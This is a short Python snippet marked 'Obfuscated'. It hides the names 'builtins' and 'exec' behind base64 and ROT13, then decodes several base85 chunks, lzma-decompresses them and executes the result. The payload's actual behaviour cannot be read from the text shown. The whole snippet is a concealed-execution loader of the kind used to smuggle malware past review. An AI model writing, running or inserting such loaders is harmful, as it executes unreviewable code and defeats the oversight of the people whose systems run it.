# Obfuscated
__________ = lambda ___, ____: getattr(__import__(___), ____)
___ = __________("base64", "b64decode")(b"YnVpbHRpbnM=").decode()
_____ = __________("lzma", "decompress")
______ = [b'{Wp48S^xk9=GL@E0stWa761SMbT8$j-~fIAd0hZB', b'n@VT6Qap3*G=nTTZ;F$zEyB4?1~lh1v}U$&*{tXp', b'haJq+#A1Psba)%^BoF7?Sf{;sP;jAms0Tc&ow4mp', b'vvP}3TF$0qHVn>N2w>72ReQ@Nrn+C3PQ$GUf7dVV', b'#yQ~hZya}y;6OPYOrh_VQ~`WO?)xkN00000IcIWk', b'(XIg<00ET&e*gdgSIWYGvBYQl0ssI200dcD']
_______ = b"".join([__________("base64", "b85decode")(________) for ________ in ______])
__________(___, __________("codecs", "decode")("rkrp", "rot13"))(_____(_______))
